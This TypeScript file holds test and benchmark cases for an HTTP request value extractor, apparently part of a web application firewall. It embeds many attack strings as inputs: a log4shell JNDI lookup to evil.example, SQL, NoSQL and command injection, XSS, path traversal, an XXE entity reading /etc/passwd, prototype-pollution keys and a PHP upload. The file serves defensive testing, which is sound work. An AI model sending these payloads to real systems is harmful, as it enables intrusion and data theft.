import type { ValueKind } from '../inspectable.js';
import type { CaseRequest } from './case-request.js';
import type { ExtractLimits } from './extract-limits.js';

/** One extraction case: a request and every value it must yield, in order. */
export interface ExtractCase {
  readonly name: string;
  readonly request: CaseRequest;
  readonly limits?: Partial<ExtractLimits>;
  /** The exact values, as `[location, kind, value]`, in extraction order. */
  readonly values: readonly (readonly [string, ValueKind, string])[];
  readonly contentType?: string;
  readonly overLimits?: readonly string[];
}

// biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell payload, not a template.
const JNDI = '${jndi:ldap://evil.example/a}';
const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

/** What a browser sends with every request; only the User-Agent is user input worth inspecting. */
export const BROWSER_HEADERS: readonly (readonly [string, string])[] = [
  ['host', 'shop.example.com'],
  ['user-agent', UA],
  ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['accept-language', 'en-US,en;q=0.5'],
  ['accept-encoding', 'gzip, deflate, br'],
  ['connection', 'keep-alive'],
  ['upgrade-insecure-requests', '1'],
  ['sec-fetch-dest', 'document'],
  ['sec-fetch-mode', 'navigate'],
  ['cache-control', 'max-age=0'],
];

const form = (body: string): CaseRequest => ({
  target: '/login',
  headers: [['content-type', 'application/x-www-form-urlencoded']],
  body,
});
const typed = (type: string, body: string | Uint8Array): CaseRequest => ({
  target: '/api',
  headers: [['content-type', type]],
  body,
});
const multipart = (body: string, type = 'multipart/form-data; boundary=XyZ'): CaseRequest =>
  typed(type, body);

/** Shared by extract.test.ts and the extraction benchmark. */
export const EXTRACT_CASES: readonly ExtractCase[] = [
  {
    name: 'a browser GET: plain headers are left out, cookies split',
    request: {
      target: '/products/42?id=1&sort=price',
      headers: [...BROWSER_HEADERS, ['cookie', '_ga=GA1.2.3.4; session=abc123; theme=dark']],
    },
    values: [
      ['path', 'path', '/products/42'],
      ['query.id', 'query-value', '1'],
      ['query.sort', 'query-value', 'price'],
      ['header.user-agent', 'header-value', UA],
      ['cookie._ga', 'cookie-value', 'GA1.2.3.4'],
      ['cookie.session', 'cookie-value', 'abc123'],
      ['cookie.theme', 'cookie-value', 'dark'],
    ],
  },
  {
    name: 'only path segments with more than unreserved characters are values',
    request: { target: '/a/b%27c/../x;jsessionid=1/' },
    values: [
      ['path', 'path', '/a/b%27c/../x;jsessionid=1/'],
      ['path.1', 'path-segment', 'b%27c'],
      ['path.3', 'path-segment', 'x;jsessionid=1'],
    ],
  },
  {
    name: 'a plain segment that reads as base64 is a value; slugs, hashes and file names are not',
    request: {
      target:
        '/share/PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+/my-first-blog-post-2024/d41d8cd98f00b204e9800998ecf8427e/Report2024Q1Final.pdf/aGVsbG8gd29ybGQgMTIz',
    },
    values: [
      [
        'path',
        'path',
        '/share/PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+/my-first-blog-post-2024/d41d8cd98f00b204e9800998ecf8427e/Report2024Q1Final.pdf/aGVsbG8gd29ybGQgMTIz',
      ],
      ['path.1', 'path-segment', 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'],
      ['path.5', 'path-segment', 'aGVsbG8gd29ybGQgMTIz'],
    ],
  },
  {
    name: 'unusual query names are values too; brackets stay in the name',
    request: { target: '/?a[$ne]=1&user.name=x&__proto__[admin]=1&b[]=2&b[]=3&page_size=9&x-y=z' },
    values: [
      ['path', 'path', '/'],
      ['query.a[$ne]#name', 'query-name', 'a[$ne]'],
      ['query.a[$ne]', 'query-value', '1'],
      ['query.user.name#name', 'query-name', 'user.name'],
      ['query.user.name', 'query-value', 'x'],
      ['query.__proto__[admin]#name', 'query-name', '__proto__[admin]'],
      ['query.__proto__[admin]', 'query-value', '1'],
      ['query.b[]#name', 'query-name', 'b[]'],
      ['query.b[]', 'query-value', '2'],
      ['query.b[]#name', 'query-name', 'b[]'],
      ['query.b[]', 'query-value', '3'],
      ['query.page_size', 'query-value', '9'],
      ['query.x-y', 'query-value', 'z'],
    ],
  },
  {
    name: 'a query without = is one value, & and all',
    request: { target: '/?<script>alert(1)</script>&x;cat /etc/passwd' },
    values: [
      ['path', 'path', '/'],
      ['query', 'query-value', '<script>alert(1)</script>&x;cat /etc/passwd'],
    ],
  },
  {
    name: 'pieces without = among pairs, empty values skipped, encoding kept',
    request: { target: "/s?debug&a=&q=%27%20or%201%3D1--+x&&name=O'Brien" },
    values: [
      ['path', 'path', '/s'],
      ['query', 'query-value', 'debug'],
      ['query.q', 'query-value', '%27%20or%201%3D1--+x'],
      ['query.name', 'query-value', "O'Brien"],
    ],
  },
  {
    name: 'structural headers count only when they hold more than tokens',
    request: {
      method: 'TEST',
      target: '/',
      headers: [
        ['host', 'localhost:8080'],
        ['accept', JNDI],
        ['content-length', '0'],
        ['x.filename', '../../etc/passwd'],
        ['x_forwarded_for', '10.0.0.1'],
        ['referer', 'https://shop.example.com/search?q=shoes&page=2'],
        ['x-empty', ''],
        ['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc'],
      ],
    },
    values: [
      ['path', 'path', '/'],
      ['header.accept', 'header-value', JNDI],
      ['header.x.filename#name', 'header-name', 'x.filename'],
      ['header.x.filename', 'header-value', '../../etc/passwd'],
      ['header.x_forwarded_for#name', 'header-name', 'x_forwarded_for'],
      ['header.x_forwarded_for', 'header-value', '10.0.0.1'],
      ['header.referer', 'header-value', 'https://shop.example.com/search?q=shoes&page=2'],
      ['header.authorization', 'header-value', 'Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc'],
    ],
  },
  {
    name: 'a host that is not a host name, and a method that is not a token',
    request: { method: "GET'", target: '/', headers: [['host', "localhost' or 1=1--"]] },
    values: [
      ['method', 'method', "GET'"],
      ['path', 'path', '/'],
      ['header.host', 'header-value', "localhost' or 1=1--"],
    ],
  },
  {
    name: 'cookies: odd names, pieces without =, quotes and spaces kept',
    request: {
      target: '/',
      headers: [
        ['cookie', ' a=1;b="x y";  flag ; $where=1;=v;c='],
        ['cookie', 'lang=en'],
      ],
    },
    values: [
      ['path', 'path', '/'],
      ['cookie.a', 'cookie-value', '1'],
      ['cookie.b', 'cookie-value', '"x y"'],
      ['cookie', 'cookie-value', 'flag'],
      ['cookie.$where#name', 'cookie-name', '$where'],
      ['cookie.$where', 'cookie-value', '1'],
      ['cookie.', 'cookie-value', 'v'],
      ['cookie.lang', 'cookie-value', 'en'],
    ],
  },
  {
    name: 'UTF-8 bytes in a header or a cookie, handed over one char per byte, read as UTF-8',
    request: {
      target: '/',
      headers: [
        ['cookie', 'id=\u00e2\u0080\u0099 OR \u00e2\u0080\u00991'],
        ['x-note', 'caf\u00c3\u00a9'],
        ['x-latin1', 'caf\u00e9'],
      ],
    },
    values: [
      ['path', 'path', '/'],
      ['cookie.id', 'cookie-value', '\u2019 OR \u20191'],
      ['header.x-note', 'header-value', 'caf\u00e9'],
      ['header.x-latin1', 'header-value', 'caf\u00e9'],
    ],
  },
  {
    name: 'a form body, names and values as received',
    request: form('user=bob&pass=x%27+or+1%3D1&tags[]=a&remember'),
    contentType: 'application/x-www-form-urlencoded',
    values: [
      ['path', 'path', '/login'],
      ['body.form.user', 'body-value', 'bob'],
      ['body.form.pass', 'body-value', 'x%27+or+1%3D1'],
      ['body.form.tags[]#name', 'body-name', 'tags[]'],
      ['body.form.tags[]', 'body-value', 'a'],
      ['body.form', 'body-value', 'remember'],
    ],
  },
  {
    name: 'a JSON body: strings by path, arrays by index, unusual keys, scalars left out',
    request: typed(
      'application/json; charset=utf-8',
      '{"user":{"name":"Ann","age":31,"admin":false,"tags":["a",{"id":"x"}]},"$where":"1","":"e","n":null}',
    ),
    contentType: 'application/json',
    values: [
      ['path', 'path', '/api'],
      ['body.json.user.name', 'body-value', 'Ann'],
      ['body.json.user.tags.0', 'body-value', 'a'],
      ['body.json.user.tags.1.id', 'body-value', 'x'],
      ['body.json.$where#name', 'body-name', '$where'],
      ['body.json.$where', 'body-value', '1'],
      ['body.json.', 'body-value', 'e'],
    ],
  },
  {
    name: 'a JSON array at the top; keys with gadget names and ORM lookups are names to inspect',
    request: typed(
      'application/json',
      '[{"__proto__":{"x":"y"}},{"a__startswith":"p","java.lang.Runtime":"z"}]',
    ),
    contentType: 'application/json',
    values: [
      ['path', 'path', '/api'],
      ['body.json.0.__proto__#name', 'body-name', '__proto__'],
      ['body.json.0.__proto__.x', 'body-value', 'y'],
      ['body.json.1.a__startswith#name', 'body-name', 'a__startswith'],
      ['body.json.1.a__startswith', 'body-value', 'p'],
      ['body.json.1.java.lang.Runtime#name', 'body-name', 'java.lang.Runtime'],
      ['body.json.1.java.lang.Runtime', 'body-value', 'z'],
    ],
  },
  {
    name: 'malformed JSON is raw text',
    request: typed('application/json', '{"a": "b",'),
    contentType: 'application/json',
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', '{"a": "b",'],
    ],
  },
  {
    name: 'declared JSON that is not JSON is raw text',
    request: typed('application/json', 'test'),
    contentType: 'application/json',
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', 'test'],
    ],
  },
  {
    name: 'JSON sent as text/plain is parsed as JSON',
    request: typed('text/plain', ' {"foo" : ";cat /etc/passwd"}'),
    contentType: 'text/plain',
    values: [
      ['path', 'path', '/api'],
      ['body.json.foo', 'body-value', ';cat /etc/passwd'],
    ],
  },
  {
    name: 'a form body sent as text/plain is parsed as a form',
    request: typed('text/plain', 'cmd=/bin/unxz -c /var/log/x.xz'),
    contentType: 'text/plain',
    values: [
      ['path', 'path', '/api'],
      ['body.form.cmd', 'body-value', '/bin/unxz -c /var/log/x.xz'],
    ],
  },
  {
    name: 'prose is one body-text value',
    request: typed('text/plain', 'Hello, x=1 is fine.\nBye'),
    contentType: 'text/plain',
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', 'Hello, x=1 is fine.\nBye'],
    ],
  },
  {
    name: 'a body without Content-Type is sniffed',
    request: { method: 'PUT', target: '/x', body: '{"q":"1 union select 2"}' },
    values: [
      ['path', 'path', '/x'],
      ['body.json.q', 'body-value', '1 union select 2'],
    ],
  },
  {
    name: 'a raw body without Content-Type is text',
    request: { target: '/x', body: '3\r\nHi \r\n0\r\n\r\n' },
    values: [
      ['path', 'path', '/x'],
      ['body', 'body-text', '3\r\nHi \r\n0\r\n\r\n'],
    ],
  },
  {
    name: 'JSON declared as a form is parsed as JSON',
    request: form('{"user":"admin","pass":{"$gt":""}}'),
    contentType: 'application/x-www-form-urlencoded',
    values: [
      ['path', 'path', '/login'],
      ['body.json.user', 'body-value', 'admin'],
      ['body.json.pass.$gt#name', 'body-name', '$gt'],
    ],
  },
  {
    name: 'a form body without = is one value',
    request: form("' or ''<>'x' --"),
    contentType: 'application/x-www-form-urlencoded',
    values: [
      ['path', 'path', '/login'],
      ['body.form', 'body-value', "' or ''<>'x' --"],
    ],
  },
  {
    name: 'a form body with = splits where the application would: the name is a value too',
    request: form("' or 1=1 --"),
    contentType: 'application/x-www-form-urlencoded',
    values: [
      ['path', 'path', '/login'],
      ["body.form.' or 1#name", 'body-name', "' or 1"],
      ["body.form.' or 1", 'body-value', '1 --'],
    ],
  },
  {
    name: 'multipart: fields, file names, the head of files, unusual names and part types',
    request: multipart(
      [
        '--XyZ',
        'Content-Disposition: form-data; name="title"',
        '',
        'My holiday',
        '--XyZ',
        'Content-Disposition: form-data; name="fi;le"; filename="..\\1.7z"',
        'Content-Type: application/octet-stream',
        '',
        'BINARY',
        '--XyZ',
        'Content-Disposition: form-data; name="empty"',
        '',
        '',
        '--XyZ',
        'Content-Disposition: form-data; name="doc"; filename="a.php"',
        'Content-Type: %{(#_=multipart/form-data)}',
        '',
        `<?php ${'x'.repeat(1100)}`,
        '--XyZ--',
        '',
      ].join('\r\n'),
    ),
    contentType: 'multipart/form-data',
    values: [
      ['path', 'path', '/api'],
      ['body.multipart.title', 'body-value', 'My holiday'],
      ['body.multipart.fi;le#name', 'body-name', 'fi;le'],
      ['body.multipart.fi;le#filename', 'file-name', '..\\1.7z'],
      ['body.multipart.fi;le', 'file-content', 'BINARY'],
      ['body.multipart.doc#content-type', 'header-value', '%{(#_=multipart/form-data)}'],
      ['body.multipart.doc#filename', 'file-name', 'a.php'],
      ['body.multipart.doc', 'file-content', `<?php ${'x'.repeat(1018)}`],
    ],
  },
  {
    name: 'multipart with LF line ends, no final boundary, a part without headers, a preamble',
    request: multipart(
      'junk before\n--0000\nContent-Disposition: form-data; name="a"\n\nline1\nline2\n--0000\n\nno headers\n--0000\nContent-Disposition: form-data; name="b"\n\ncut off',
      'multipart/form-data; boundary="0000"',
    ),
    contentType: 'multipart/form-data',
    values: [
      ['path', 'path', '/api'],
      ['body.multipart#preamble', 'body-text', 'junk before\n'],
      ['body.multipart.a', 'body-value', 'line1\nline2'],
      ['body.multipart.1', 'body-value', 'no headers'],
      ['body.multipart.b', 'body-value', 'cut off'],
    ],
  },
  {
    name: 'a part without the blank line after its headers still has its content inspected',
    request: multipart(
      '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n{{ 7*7 }}\r\n--XyZ--\r\n',
    ),
    contentType: 'multipart/form-data',
    values: [
      ['path', 'path', '/api'],
      ['body.multipart.f#filename', 'file-name', 'a.txt'],
      ['body.multipart.f', 'file-content', '{{ 7*7 }}'],
    ],
  },
  {
    name: 'a multipart body whose header lacks the boundary, and a boundary on another type',
    request: multipart(
      '--abc\r\nContent-Disposition: form-data; name="q"\r\n\r\nx\r\n--abc--\r\n',
      'multipart/related',
    ),
    contentType: 'multipart/related',
    values: [
      ['path', 'path', '/api'],
      ['body.multipart.q', 'body-value', 'x'],
    ],
  },
  {
    name: 'a boundary parameter on a non-multipart type is still multipart',
    request: multipart(
      '--0\nContent-Disposition: form-data; name="q"\n\nx\n--0--\n',
      'application/foo; boundary=0',
    ),
    contentType: 'application/foo',
    values: [
      ['path', 'path', '/api'],
      ['body.multipart.q', 'body-value', 'x'],
    ],
  },
  {
    name: 'a multipart body that uses another boundary than its header declares',
    request: multipart('--real\r\nContent-Disposition: form-data; name="q"\r\n\r\nx\r\n--real--\r\n'),
    contentType: 'multipart/form-data',
    values: [
      ['path', 'path', '/api'],
      ['body.multipart.q', 'body-value', 'x'],
    ],
  },
  {
    name: 'broken multipart is raw text',
    request: multipart('test', 'multipart/form-data; boundary=XyZ'),
    contentType: 'multipart/form-data',
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', 'test'],
    ],
  },
  {
    name: 'XML: text nodes and attributes by path, raw; namespaces, comments and the declaration left out',
    request: typed(
      'application/soap+xml',
      '<?xml version="1.0"?>\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">\n' +
        '  <s:Body><a probe="1 OR 1=1" empty="">&lt;b&gt; &amp; c<!-- note --></a><b/><![CDATA[<x>]]></s:Body>\n</s:Envelope>',
    ),
    contentType: 'application/soap+xml',
    values: [
      ['path', 'path', '/api'],
      ['body.xml.s:Envelope.s:Body.a@probe', 'body-value', '1 OR 1=1'],
      ['body.xml.s:Envelope.s:Body.a', 'body-value', '&lt;b&gt; &amp; c'],
      ['body.xml.s:Envelope.s:Body', 'body-value', '<x>'],
    ],
  },
  {
    name: 'XML: the DOCTYPE with its ENTITY declarations is one value; references stay unexpanded',
    request: typed(
      'text/xml',
      '<?xml version="1.0"?><!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY b "]>"> ]><foo>&xxe;</foo>',
    ),
    contentType: 'text/xml',
    values: [
      ['path', 'path', '/api'],
      [
        'body.xml#doctype',
        'xml-doctype',
        '<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY b "]>"> ]>',
      ],
      ['body.xml.foo', 'body-value', '&xxe;'],
    ],
  },
  {
    name: 'XML sniffed whatever the type; processing instructions; unclosed and lenient markup',
    request: typed(
      'text/plain',
      '<?xml version="1.0"?><?xml-stylesheet href="http://evil/x.xsl"?><r a=b c d=\'q"\'>1 < 2<i>open',
    ),
    contentType: 'text/plain',
    values: [
      ['path', 'path', '/api'],
      ['body.xml#pi', 'xml-doctype', '<?xml-stylesheet href="http://evil/x.xsl"?>'],
      ['body.xml.r@a', 'body-value', 'b'],
      ['body.xml.r@d', 'body-value', 'q"'],
      ['body.xml.r', 'body-value', '1 < 2'],
      ['body.xml.r.i', 'body-value', 'open'],
    ],
  },
  {
    name: 'declared XML that is not XML is raw text; HTML sent as text stays text',
    request: typed('application/xml', 'test'),
    contentType: 'application/xml',
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', 'test'],
    ],
  },
  {
    name: 'HTML sent as text/plain stays text',
    request: typed('text/plain', '<script>alert(1)</script>'),
    contentType: 'text/plain',
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', '<script>alert(1)</script>'],
    ],
  },
  {
    name: 'GraphQL: the document as one value, string arguments by name',
    request: typed(
      'application/graphql',
      '# list\nquery { user(name: "x\\" or 1=1", tags: ["a", "b"]) { id } search(q: """multi\nline""") }',
    ),
    contentType: 'application/graphql',
    values: [
      ['path', 'path', '/api'],
      [
        'body.graphql',
        'body-text',
        '# list\nquery { user(name: "x\\" or 1=1", tags: ["a", "b"]) { id } search(q: """multi\nline""") }',
      ],
      ['body.graphql.name', 'body-value', 'x\\" or 1=1'],
      ['body.graphql.tags', 'body-value', 'a'],
      ['body.graphql.tags', 'body-value', 'b'],
      ['body.graphql.q', 'body-value', 'multi\nline'],
    ],
  },
  {
    name: 'GraphQL over JSON: the query field is the document, variables are JSON values',
    request: typed(
      'application/json',
      '{"query":"query Q($id: ID!) { node(id: $id) { name(lang: \\"en\\") } }","variables":{"id":"1\' or \'1"}}',
    ),
    contentType: 'application/json',
    values: [
      ['path', 'path', '/api'],
      ['body.graphql', 'body-text', 'query Q($id: ID!) { node(id: $id) { name(lang: "en") } }'],
      ['body.graphql.lang', 'body-value', 'en'],
      ['body.json.variables.id', 'body-value', "1' or '1"],
    ],
  },
  {
    name: 'a JSON query field that is a search string stays a JSON value',
    request: typed('application/json', '{"query":"red shoes"}'),
    contentType: 'application/json',
    values: [
      ['path', 'path', '/api'],
      ['body.json.query', 'body-value', 'red shoes'],
    ],
  },
  {
    name: 'invalid UTF-8 is decoded with replacement characters',
    request: typed('text/plain', new Uint8Array([0x61, 0xff, 0xfe, 0x62])),
    contentType: 'text/plain',
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', 'a\uFFFD\uFFFDb'],
    ],
  },
  {
    name: 'maxArgs: extraction stops and says so',
    request: { target: '/?a=1&b=2&c=3&d=4', headers: [['user-agent', 'x']] },
    limits: { maxArgs: 3 },
    overLimits: ['args'],
    values: [
      ['path', 'path', '/'],
      ['query.a', 'query-value', '1'],
      ['query.b', 'query-value', '2'],
    ],
  },
  {
    name: 'maxDepth: JSON deeper than the limit is not descended into',
    request: typed('application/json', '{"a":{"b":{"c":"deep"}},"d":"flat"}'),
    limits: { maxDepth: 2 },
    contentType: 'application/json',
    overLimits: ['depth'],
    values: [
      ['path', 'path', '/api'],
      ['body.json.d', 'body-value', 'flat'],
    ],
  },
  {
    name: 'maxDepth: XML deeper than the limit is not emitted, shallower text after it is',
    request: typed('application/xml', '<a><b><c x="1">deep</c></b>after</a>'),
    limits: { maxDepth: 2 },
    contentType: 'application/xml',
    overLimits: ['depth'],
    values: [
      ['path', 'path', '/api'],
      ['body.xml.a', 'body-value', 'after'],
    ],
  },
  {
    name: 'maxBodyBytes: only the head of the body is parsed',
    request: typed('text/plain', 'abcdefghij'),
    limits: { maxBodyBytes: 4 },
    contentType: 'text/plain',
    overLimits: ['body-bytes'],
    values: [
      ['path', 'path', '/api'],
      ['body', 'body-text', 'abcd'],
    ],
  },
  {
    name: 'a value over 4 KiB is followed by its last 2 KiB, so that padding hides nothing',
    request: { target: `/?q=${'A'.repeat(4100)}x&short=${'B'.repeat(10)}` },
    values: [
      ['path', 'path', '/'],
      ['query.q', 'query-value', `${'A'.repeat(4100)}x`],
      ['query.q', 'query-value', `${'A'.repeat(2047)}x`],
      ['query.short', 'query-value', 'B'.repeat(10)],
    ],
  },
  {
    name: "a long post's end starts at a line, not inside a tag",
    request: typed(
      'application/json',
      JSON.stringify({ body: `${'word '.repeat(900)}<a href="x" target="_blank">\n${'z'.repeat(1500)}` }),
    ),
    contentType: 'application/json',
    values: [
      ['path', 'path', '/api'],
      [
        'body.json.body',
        'body-value',
        `${'word '.repeat(900)}<a href="x" target="_blank">\n${'z'.repeat(1500)}`,
      ],
      ['body.json.body', 'body-value', 'z'.repeat(1500)],
    ],
  },
  {
    name: 'maxValueBytes: long values are cut',
    request: { target: '/?q=0123456789' },
    limits: { maxValueBytes: 4 },
    overLimits: ['value-bytes'],
    values: [
      ['path', 'path', '/'],
      ['query.q', 'query-value', '0123'],
    ],
  },
  {
    name: 'overlong names are cut in locations, not in values',
    request: { target: `/?${'n'.repeat(130)}=1` },
    values: [
      ['path', 'path', '/'],
      [`query.${'n'.repeat(128)}…`, 'query-value', '1'],
    ],
  },
];
